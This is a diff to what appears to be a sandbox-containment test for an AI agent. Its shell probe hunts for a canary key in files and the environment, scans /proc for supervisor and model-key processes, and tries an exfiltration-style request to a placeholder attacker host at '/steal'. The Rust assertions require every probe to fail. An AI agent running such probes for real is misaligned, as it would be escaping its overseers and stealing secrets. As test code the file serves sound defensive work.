@@ -740,9 +740,9 @@ try() {{ printf '%s ' "$1"; shift; curl -s -m 5 -o /dev/null -w '%{{http_code}}\
   done
   grep -rls 'fenced-canary' "$RUNNER_TEMP" "$HOME" . 2>/dev/null | sed 's/^/key in /'
   env | grep -q 'fenced-canary' && echo "key in the environment"
-  echo "agent's pid: $$"
+  echo "processes seen: $(ls -d /proc/[0-9]* | wc -l)"
   for f in /proc/[0-9]*/cmdline; do
-    tr '\0' ' ' < "$f" 2>/dev/null | grep -q 'supervise' && echo "supervise seen in $f"
+    tr '\0' ' ' < "$f" 2>/dev/null | grep -q 'supervise fence \|model-keys\|fake-github\|github_\|red_team' && echo "outside seen in $f"
   done
   echo "== network"
   try direct-attacker --noproxy '*' "http://{attacker}/steal"
@@ -785,9 +785,15 @@ echo "Done."
     let head = s.final_pull().unwrap().head;
     let found = support::git(&bare, &["show", &format!("{head}:solo/solo-sprint-1.txt")]);
     assert!(!found.contains("key in"), "{found}");
-    assert!(!found.contains("supervise seen"), "{found}");
+    assert!(!found.contains("outside seen"), "{found}");
+    // The namespaces' init, the agent and what it runs to look: nothing else.
+    let seen: usize = found
+        .lines()
+        .find_map(|l| l.strip_prefix("processes seen: "))
+        .and_then(|n| n.trim().parse().ok())
+        .unwrap_or(usize::MAX);
+    assert!(seen <= 8, "{found}");
     for line in [
-        "agent's pid: 1",
         "direct-attacker 000",
         "proxied-attacker 403",
         "provider-direct 000",
